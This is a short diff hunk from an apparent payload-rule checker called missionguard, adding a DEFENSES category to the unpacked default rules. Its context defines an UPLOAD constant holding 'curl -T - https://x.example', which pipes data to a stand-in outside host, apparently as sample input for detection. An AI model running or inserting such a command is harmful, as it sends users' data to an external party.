@@ -31,7 +31,7 @@ from missionguard.models.rules import (
 )
 from missionguard.pipeline.settings import Settings
 
-COMMANDS, PUBLIC, TAMPERING, OUTBOUND = DEFAULT_PAYLOAD_RULES
+COMMANDS, PUBLIC, TAMPERING, OUTBOUND, DEFENSES = DEFAULT_PAYLOAD_RULES
 UPLOAD = "curl -T - https://x.example"
 
 
